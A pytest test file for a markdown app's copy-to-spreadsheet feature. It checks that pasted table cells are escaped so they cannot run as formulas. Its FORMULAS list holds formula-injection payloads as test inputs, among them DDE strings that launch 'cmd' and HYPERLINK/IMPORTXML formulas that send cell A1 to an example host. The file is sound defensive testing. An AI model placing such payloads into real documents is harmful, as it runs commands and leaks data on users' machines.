"""No cell of a copied table acts in the spreadsheet that it is pasted into."""

import csv
import json
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.markdown.blocks import Alignment, Run, Table
from desktop.markdown.cells import to_tsv
from desktop.markdown.copied import copied_text
from desktop.markdown.formulas import is_formula, without_formula
from desktop.markdown.html import to_html
from desktop.markdown.source import to_markdown
from desktop.markdown.stream import parse

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://a.example/?\"&A1,\"more\")",
    "=IMPORTXML(\"https://a.example/\"&A1,\"//a\")",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    "\u200e=1+1",
    "\u202e\u2061=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋SUM(1)",
    "－SUM(1)",
    "＠SUM(1)",
    "=A1",
    "-(A1)",
    "=DDE(\"soffice\";\"a.ods\";\"A1\")",
]  # fmt: skip
WORDS = [
    *("-5", "- 5", "+3.2 %", "−1,234.50", "-1 234,50", "-1'234.50", "-1e-5", "+1E+5", "-$5", "-.5", "7"),
    *("+86 138-0013-8000", "+8613800138000", "-5 °C", "-v", "--dry-run", "-o FILE", "@org/name", "+1"),
    *("-", "+", "=", "==", "=>", "->", "", "a=1", "'=1", "1-1", "“=1+1”", "• =1", '"quoted"', "—"),
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_text(cell: str) -> None:
    assert is_formula(cell)
    assert without_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", WORDS)
def test_numbers_options_and_names_stay_as_they_are(cell: str) -> None:
    assert without_formula(cell) == cell


@pytest.mark.parametrize("cell", ['"=1+1"', '""=1+1', '"', '"a', '"a" b "c', ' "=1'])
def test_no_quotation_mark_hides_one_or_takes_in_other_cells(cell: str) -> None:
    assert without_formula(cell) == f"'{cell}"


def table(*cells: str) -> Table:
    """With a header of as many words."""
    alignments: list[Alignment] = [""] * len(cells)
    return Table(tuple(alignments), (((Run("a"),),) * len(cells), tuple((Run(cell),) for cell in cells)))


def html_cell(cell: str) -> tuple[dict[str, str | None], str]:
    """The attributes and the words of a cell of HTML."""
    return Cells(to_html([table(cell)])).cells[1]


@given(
    st.lists(st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from("=+-@\"'(|!\t\n "))), min_size=1)
)
def test_read_as_spreadsheets_do_no_cell_begins_a_formula(cells: list[str]) -> None:
    text = to_tsv([table("a", *cells)])
    assert text is not None

    (_, read) = csv.reader(text.split("\n")[:-1], delimiter="\t")
    assert len(read) == 1 + len(cells)
    assert all(without_formula(cell) == cell for cell in read)


class Cells(HTMLParser):
    """The attributes and the words of each cell."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.cells: list[tuple[dict[str, str | None], str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"th", "td"}:
            self.cells.append((dict(attrs), ""))

    def handle_data(self, data: str) -> None:
        attributes, text = self.cells[-1]
        self.cells[-1] = (attributes, text + data)


@pytest.mark.parametrize("cell", [*FORMULAS, "-v", "@name"])
def test_in_html_each_spreadsheet_is_told_that_it_is_text(cell: str) -> None:
    attributes, words = html_cell(cell)

    assert words == cell
    assert r"mso-number-format:'\@'" in str(attributes["style"])
    assert attributes["sdnum"] == "1033;0;@"
    assert json.loads(str(attributes["data-sheets-value"])) == {"1": 2, "2": cell}


@pytest.mark.parametrize("cell", ["-5", "+3.2 %", "7", "a=1", "-"])
def test_in_html_numbers_stay_numbers(cell: str) -> None:
    attributes, words = html_cell(cell)

    assert words == cell
    assert set(attributes) == {"style", "dir"}
    assert "mso" not in str(attributes["style"])


def test_beside_other_blocks_a_table_is_guarded_too_and_markdown_stays_markdown() -> None:
    source = "Sums:\n\n| a | b |\n| --- | --- |\n| =SUM(A1) | -5 |"

    assert copied_text(parse(source)) == "Sums:\n\na\tb\n'=SUM(A1)\t-5"
    assert to_markdown(parse(source)) == source
